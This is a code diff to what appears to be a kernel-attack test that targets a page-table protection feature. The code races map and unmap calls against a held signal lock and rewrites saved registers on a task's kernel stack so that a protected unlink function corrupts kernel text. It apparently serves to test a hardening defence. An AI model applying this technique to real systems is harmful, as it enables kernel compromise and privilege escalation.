@@ -10,16 +10,15 @@
 #include <signal.h>
 #include <string.h>
 #include <sys/mman.h>
-#include <sys/time.h>
 #include <time.h>
 #include <unistd.h>
 
 #include "attack.h"
 #include "list.h"
 #include "objects.h"
+#include "pt_regs.h"
 
 #ifdef __x86_64__
-#define FRAMES		"kpkeys_frames"		/* a pointer to pointers to pages */
 #define FUNCTION	"__kpkeys_unlink_tables"
 #define AHEAD		0x50			/* bytes of it ahead of its section */
 #define TABLES		32			/* that it looks at in one section */
@@ -30,46 +29,26 @@
 #define INTERVAL	1000			/* microseconds */
 #define HOLD		3000			/* likewise */
 #define SECONDS		15
-#define FRAME_WORDS	21			/* of struct pt_regs */
-#define FRAME_SI	13
-#define FRAME_IP	16
-#define FRAME_CS	17
-#define KERNEL_CS	0x10
 
 static volatile unsigned long *rounds;
-
-static void on_alarm(int signal)
-{
-	(void)signal;
-}
 
 /* What is mapped behind it keeps the table whose entries are looked at. */
 static void unmap_for_ever(void)
 {
-	struct itimerval interval = { { 0, INTERVAL }, { 0, INTERVAL } };
 	char *base = (char *)user_room(CHANGED_PART);
 	size_t size = TABLES * PMD_SIZE;
 	volatile char *behind;
 
 	stay_on_cpu(UNMAPPER_CPU);
-	signal(SIGALRM, on_alarm);
+	heed_alarms();
 	behind = mmap(base + 2 * size, PAGE_SIZE, PROT_READ | PROT_WRITE,
 		      MAP_PRIVATE | MAP_ANONYMOUS | MAP_FIXED, -1, 0);
 	*behind = 1;
-	setitimer(ITIMER_REAL, &interval, NULL);
+	alarm_every(INTERVAL);
 	for (;; (*rounds)++) {
 		mmap(base, size, PROT_READ, MAP_PRIVATE | MAP_ANONYMOUS | MAP_FIXED, -1, 0);
 		munmap(base, size);
 	}
-}
-
-/* Where the table of frames says of text_address() what it is, or 0. */
-static uint64_t find_frame(void)
-{
-	uint64_t frames = ksymbol(FRAMES), pfn = text_phys() / PAGE_SIZE;
-	uint64_t page = frames ? kread64(kread64(frames) + pfn / PAGE_SIZE * sizeof(page)) : 0;
-
-	return page ? page + pfn % PAGE_SIZE : 0;
 }
 
 /* The section stores so much from there on, of one page. */
@@ -90,7 +69,7 @@ static int change_stack(const struct task *task, uint64_t function, uint64_t tar
 		kread(task->stack + i, (char *)words + i, PAGE_SIZE);
 	for (i = 0; i + FRAME_WORDS <= STACK_WORDS; i++) {
 		frame = words + i;
-		if (frame[FRAME_IP] - function >= AHEAD || frame[FRAME_CS] != KERNEL_CS ||
+		if (frame[FRAME_IP] - function >= AHEAD || !is_kernel_frame(frame) ||
 		    frame[FRAME_SI] - task->stack >= STACK_WORDS * 8)
 			continue;
 		kwrite64(task->stack + (i + FRAME_SI) * 8, target);
@@ -104,14 +83,13 @@ enum outcome unlinked_entries(void)
 	uint64_t frame, lock, function = ksymbol(FUNCTION);
 	time_t end = time(NULL) + SECONDS;
 	int held = 0, changed = 0;
-	char one = 1, zero = 0;
 	uint8_t kind = 1;
 	struct task task;
 	pid_t pid;
 
 	if (!is_protected())
 		return zero_page_text();
-	frame = find_frame();
+	frame = frame_of_text();
 	if (sysconf(_SC_NPROCESSORS_ONLN) < 2)
 		return skipped("needs a second CPU");
 	if (!frame || !function)
@@ -124,19 +102,21 @@ enum outcome unlinked_entries(void)
 	usleep(100000);
 	if (ktask(pid, &task))
 		return broken("no task");
-	lock = find_signal_lock(&task, on_alarm);
+	lock = find_signal_lock(&task);
 	if (!lock)
 		return broken("no lock");
 	while (kind && time(NULL) < end) {
-		kwrite(lock, &one, 1);
+		set_lock(lock, true);
 		usleep(HOLD);
 		changed += change_stack(&task, function, target_of(frame));
-		kwrite(lock, &zero, 1);
+		set_lock(lock, false);
 		held++;
 		usleep(500);
 		kread(frame, &kind, sizeof(kind));
 	}
 	kill(pid, SIGKILL);
+	if (!changed)
+		return broken("no interrupt ahead of the section (%lu rounds, held %d times)", *rounds, held);
 	if (kind)
 		return lost("%lu rounds, held %d times, %d pointers changed", *rounds, held, changed);
 	return zero_page_text();
